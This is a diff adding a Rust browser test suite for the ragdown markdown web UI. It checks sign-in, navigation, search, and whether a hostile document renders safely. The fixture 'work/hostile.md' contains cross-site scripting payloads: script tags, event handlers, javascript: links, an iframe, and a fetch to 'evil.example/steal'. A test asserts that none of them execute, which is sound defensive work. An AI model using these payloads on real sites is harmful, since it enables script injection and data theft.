@@ -1,0 +1,468 @@
+//! The web UI in a real browser: Debian's `chromium`, headless, driven through `chromedriver`
+//! with `fantoccini`, against the real `ragdown serve`. Each scenario saves a screenshot under
+//! `target/ui-screenshots/` (look at them: that is what a user sees).
+//!
+//! The browser and its driver run in a process group of their own, killed when the test ends
+//! however it ends, so a failed test leaves nothing running. `scripts/test.sh` installs
+//! `chromium` and `chromium-driver` when they are missing.
+
+use crate::harness;
+
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use fantoccini::{Client, ClientBuilder, Locator};
+use serde_json::{Value, json};
+
+const TOKEN: &str = "ui-token-456";
+
+/// A 48×48 blue PNG: a real image, so the browser can prove it decoded it.
+const PNG: &[u8] = &[
+    137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 48, 0, 0, 0, 48, 8, 2,
+    0, 0, 0, 216, 96, 110, 208, 0, 0, 0, 58, 73, 68, 65, 84, 120, 218, 237, 206, 65, 13, 0, 0, 8,
+    4, 160, 11, 99, 38, 59, 219, 202, 22, 206, 7, 27, 1, 72, 245, 188, 18, 33, 33, 33, 33, 33, 33,
+    33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 33, 161, 59, 11, 97,
+    208, 91, 166, 87, 227, 65, 161, 0, 0, 0, 0, 73, 69, 78, 68, 174, 66, 96, 130,
+];
+
+fn write(root: &Path, rel: &str, bytes: &[u8]) {
+    let full = root.join(rel);
+    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
+    std::fs::write(full, bytes).unwrap();
+}
+
+fn fixture(docs: &Path) {
+    write(
+        docs,
+        "work/guide.md",
+        b"---\ntags: [ops]\nowner: infra\n---\n# Guide\n\nStart with [[Backups#Restore]] and [[missing page]].\n\n![[img/logo.png]]\n",
+    );
+    write(
+        docs,
+        "work/backups.md",
+        b"# Backups\n\nNightly snapshots of every database.\n\n## Restore\n\nTo restore a lighthouse snapshot, run pg_restore twice and check the row counts.\n",
+    );
+    write(docs, "work/img/logo.png", PNG);
+    write(docs, "home/garden.md", b"# Garden\n\nTomatoes need sun.\n");
+    write(
+        docs,
+        "work/hostile.md",
+        concat!(
+            "# Hostile\n\n",
+            "<script>window.pwned = 1; fetch('https://evil.example/steal')</script>\n\n",
+            "<img src=\"https://evil.example/pixel.gif\" onerror=\"window.pwned = 2\">\n\n",
+            "<svg onload=\"window.pwned = 3\"><script>window.pwned = 4</script></svg>\n\n",
+            "[click me](javascript:window.pwned=5) <a href=\"javascript:alert(6)\" id=\"bad\">bad link</a>\n\n",
+            "<iframe src=\"https://evil.example\"></iframe>\n\n",
+            "![remote](https://evil.example/track.png)\n",
+        )
+        .as_bytes(),
+    );
+}
+
+/// The browser's driver, in a process group of its own (Chromium runs as its children).
+struct Driver {
+    child: Child,
+    url: String,
+}
+
+impl Driver {
+    fn start() -> Driver {
+        use std::os::unix::process::CommandExt;
+        let driver = std::env::var("RAGDOWN_TEST_CHROMEDRIVER").unwrap_or("chromedriver".into());
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let child = Command::new(&driver)
+            .arg(format!("--port={port}"))
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .process_group(0)
+            .spawn()
+            .unwrap_or_else(|e| {
+                panic!("{driver} does not start ({e}): install chromium and chromium-driver (apt-get install chromium chromium-driver), as scripts/test.sh does")
+            });
+        let url = format!("http://127.0.0.1:{port}");
+        let deadline = Instant::now() + Duration::from_secs(20);
+        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+            assert!(Instant::now() < deadline, "chromedriver never listened");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Driver { child, url }
+    }
+}
+
+impl Drop for Driver {
+    fn drop(&mut self) {
+        // The whole group: the driver and every browser process it started.
+        let _ = Command::new("kill")
+            .args(["-s", "KILL", "--", &format!("-{}", self.child.id())])
+            .status();
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A served docs dir and a fresh headless browser on it.
+struct Ui {
+    serve: Child,
+    base: String,
+    docs: tempfile::TempDir,
+    _data: tempfile::TempDir,
+    profile: tempfile::TempDir,
+    driver: Driver,
+}
+
+impl Drop for Ui {
+    fn drop(&mut self) {
+        let _ = self.serve.kill();
+        let _ = self.serve.wait();
+    }
+}
+
+impl Ui {
+    async fn start(env: &[(&str, &str)]) -> Ui {
+        let docs = tempfile::tempdir().unwrap();
+        fixture(docs.path());
+        let data = tempfile::tempdir().unwrap();
+        let (serve, base, _log) = harness::spawn_serve(docs.path(), data.path(), TOKEN, env);
+        let ui = Ui {
+            serve,
+            base,
+            docs,
+            _data: data,
+            profile: tempfile::tempdir().unwrap(),
+            driver: Driver::start(),
+        };
+        ui.wait_indexed().await;
+        ui
+    }
+
+    async fn wait_indexed(&self) {
+        let http = reqwest::Client::new();
+        let deadline = Instant::now() + Duration::from_secs(20);
+        loop {
+            let status: Value = http
+                .get(format!("{}/api/status", self.base))
+                .send()
+                .await
+                .unwrap()
+                .json()
+                .await
+                .unwrap();
+            if status["ready"] == true && status["syncing"] == false && status["files"] == 4 {
+                return;
+            }
+            assert!(Instant::now() < deadline, "never indexed: {status}");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+    }
+
+    async fn browser(&self) -> Client {
+        let binary = std::env::var("RAGDOWN_TEST_CHROMIUM").unwrap_or("/usr/bin/chromium".into());
+        let capabilities = json!({
+            "goog:chromeOptions": {
+                "binary": binary,
+                "args": [
+                    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+                    "--disable-quic", "--no-first-run", "--disable-background-networking",
+                    "--disable-component-update", "--disable-sync", "--window-size=1200,900",
+                    format!("--user-data-dir={}", self.profile.path().display()),
+                ],
+            }
+        });
+        let serde_json::Value::Object(capabilities) = capabilities else {
+            unreachable!()
+        };
+        let connector = hyper_util::client::legacy::connect::HttpConnector::new();
+        ClientBuilder::new(connector)
+            .capabilities(capabilities)
+            .connect(&self.driver.url)
+            .await
+            .expect("chromedriver starts a headless chromium")
+    }
+}
+
+fn screenshots() -> PathBuf {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/ui-screenshots");
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+async fn screenshot(client: &Client, name: &str) {
+    let png = client.screenshot().await.unwrap();
+    std::fs::write(screenshots().join(format!("{name}.png")), png).unwrap();
+}
+
+/// Waits for an element to appear, with the page's text in the failure.
+async fn wait_for(client: &Client, css: &str) -> fantoccini::elements::Element {
+    match client
+        .wait()
+        .at_most(Duration::from_secs(10))
+        .for_element(Locator::Css(css))
+        .await
+    {
+        Ok(element) => element,
+        Err(e) => {
+            let text = client
+                .find(Locator::Css("body"))
+                .await
+                .unwrap()
+                .text()
+                .await
+                .unwrap_or_default();
+            panic!("{css} never appeared ({e}); the page says: {text}");
+        }
+    }
+}
+
+async fn wait_until(client: &Client, script: &str) {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let value = client.execute(script, vec![]).await.unwrap();
+        if value == Value::Bool(true) {
+            return;
+        }
+        assert!(Instant::now() < deadline, "never true: {script}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+async fn sign_in(client: &Client, base: &str) {
+    client.goto(base).await.unwrap();
+    wait_for(client, "#token")
+        .await
+        .send_keys(TOKEN)
+        .await
+        .unwrap();
+    client
+        .find(Locator::Css("button[type=submit]"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    wait_for(client, "ul.cards").await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sign_in_browse_read_follow_a_wikilink_and_go_back() {
+    let ui = Ui::start(&[]).await;
+    let c = ui.browser().await;
+
+    // A wrong token gets a clear screen, and nothing else.
+    c.goto(&ui.base).await.unwrap();
+    wait_for(&c, "#token")
+        .await
+        .send_keys("wrong")
+        .await
+        .unwrap();
+    c.find(Locator::Css("button[type=submit]"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    let refused = wait_for(&c, ".signin .error").await.text().await.unwrap();
+    assert!(refused.contains("refused"), "{refused}");
+    screenshot(&c, "sign-in-refused").await;
+
+    sign_in(&c, &ui.base).await;
+    let cards = c
+        .find(Locator::Css("ul.cards"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(cards.contains("work") && cards.contains("home"), "{cards}");
+    assert!(cards.contains("3 documents"), "{cards}");
+    screenshot(&c, "folders").await;
+
+    // The folder's tree, then a document.
+    c.find(Locator::LinkText("work"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    wait_for(&c, "ul.tree").await;
+    screenshot(&c, "folder-tree").await;
+    c.find(Locator::LinkText("Guide"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    wait_for(&c, ".markdown h1").await;
+    assert_eq!(c.current_url().await.unwrap().path(), "/f/work/guide.md");
+    let properties = c
+        .find(Locator::Css("table.properties"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        properties.contains("owner") && properties.contains("infra"),
+        "{properties}"
+    );
+    // The image came through /api/file with the token, as a blob, and decoded.
+    wait_until(
+        &c,
+        "const i = document.querySelector('.markdown img'); return !!i && i.complete && i.naturalWidth === 48 && i.src.startsWith('blob:');",
+    )
+    .await;
+    let unresolved = c
+        .find(Locator::Css(".markdown a.unresolved"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(unresolved, "missing page");
+    screenshot(&c, "document").await;
+
+    // A wikilink to a heading opens its document at that section.
+    c.find(Locator::Css(".markdown a.wikilink"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    wait_for(&c, ".markdown h2.highlight").await;
+    let url = c.current_url().await.unwrap();
+    assert_eq!(
+        (url.path(), url.fragment()),
+        ("/f/work/backups.md", Some("restore"))
+    );
+    // Backlinks under it, with the linking line.
+    let backlinks = wait_for(&c, ".backlinks li").await.text().await.unwrap();
+    assert!(
+        backlinks.contains("Guide") && backlinks.contains("line 7"),
+        "{backlinks}"
+    );
+    screenshot(&c, "wikilink-and-backlinks").await;
+
+    // Back and forward work; a reload of a deep link loads the app there.
+    c.back().await.unwrap();
+    wait_until(&c, "return location.pathname === '/f/work/guide.md' && !!document.querySelector('.markdown h1')").await;
+    c.forward().await.unwrap();
+    wait_until(&c, "return location.pathname === '/f/work/backups.md'").await;
+    c.refresh().await.unwrap();
+    wait_for(&c, ".markdown h2.highlight").await;
+
+    // Sign out asks again.
+    c.find(Locator::Css("header button.link"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    wait_for(&c, "#token").await;
+    c.close().await.unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn search_opens_a_hit_at_its_section() {
+    let ui = Ui::start(&[]).await;
+    let c = ui.browser().await;
+    sign_in(&c, &ui.base).await;
+    // `/` focuses the search box from anywhere.
+    c.find(Locator::Css("body"))
+        .await
+        .unwrap()
+        .send_keys("/")
+        .await
+        .unwrap();
+    wait_until(
+        &c,
+        "return document.activeElement?.getAttribute('aria-label') === 'Search'",
+    )
+    .await;
+    c.find(Locator::Css("form.search input"))
+        .await
+        .unwrap()
+        .send_keys("restore lighthouse snapshot\u{E007}")
+        .await
+        .unwrap();
+    let first = wait_for(&c, "ol.hits li").await;
+    let text = first.text().await.unwrap();
+    assert!(
+        text.contains("Backups › Restore") && text.contains("work/backups.md"),
+        "{text}"
+    );
+    assert!(text.contains("lines 7–7"), "{text}");
+    screenshot(&c, "search").await;
+    first
+        .find(Locator::Css("a"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    let highlighted = wait_for(&c, ".markdown h2.highlight")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(highlighted, "Restore");
+    assert_eq!(c.current_url().await.unwrap().fragment(), Some("L7"));
+    screenshot(&c, "search-hit-opened").await;
+    c.close().await.unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_document_executes_nothing_and_the_token_needs_no_prompt_on_a_local_net() {
+    let ui = Ui::start(&[("SECURE_LOCAL_NET", "true"), ("RAGDOWN_TOKEN", "")]).await;
+    let c = ui.browser().await;
+    // SECURE_LOCAL_NET: no token asked.
+    c.goto(&format!("{}/f/work/hostile.md", ui.base))
+        .await
+        .unwrap();
+    wait_for(&c, ".markdown h1").await;
+    // Give anything that would run the time to run.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    c.find(Locator::LinkText("click me"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    c.find(Locator::LinkText("bad link"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert!(c.get_alert_text().await.is_err(), "an alert opened");
+    let pwned = c
+        .execute("return window.pwned ?? null", vec![])
+        .await
+        .unwrap();
+    assert_eq!(pwned, Value::Null, "a script in the document ran");
+    // No request left for another origin: every resource the page loaded is this server's.
+    let foreign = c
+        .execute(
+            "return performance.getEntriesByType('resource').map(e => e.name).filter(n => !n.startsWith(location.origin) && !n.startsWith('blob:'))",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(foreign, json!([]), "requests to another origin");
+    let frames = c
+        .execute(
+            "return document.querySelectorAll('iframe, script:not([src]), svg').length",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(frames, json!(0));
+    assert!(ui.docs.path().join("work/hostile.md").exists());
+    screenshot(&c, "hostile-document").await;
+    c.close().await.unwrap();
+}
